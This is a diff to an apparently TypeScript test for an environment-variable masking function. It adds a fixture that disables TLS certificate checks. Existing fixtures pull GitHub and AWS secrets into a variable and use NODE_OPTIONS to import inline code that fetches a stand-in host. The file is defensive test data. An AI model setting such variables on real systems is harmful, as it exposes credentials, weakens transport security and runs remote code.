@@ -85,6 +85,7 @@ test('masking keeps what turns a program and drops what opens a door', () => {
     ['HOME_DIR', '/home/alice/data'],
     ['BASE_URL', 'https://api.example.org/v1'],
     ['USER_NAME', '${env:USER}'],
+    ['NODE_TLS_REJECT_UNAUTHORIZED', '0'],
     ['CONTEXT', '${env:GITHUB_TOKEN};${env:AWS_SECRET_ACCESS_KEY}'],
     ['NODE_OPTIONS', "--import=data:text/javascript,await%20fetch('https://x.example/b')"],
   ] as const
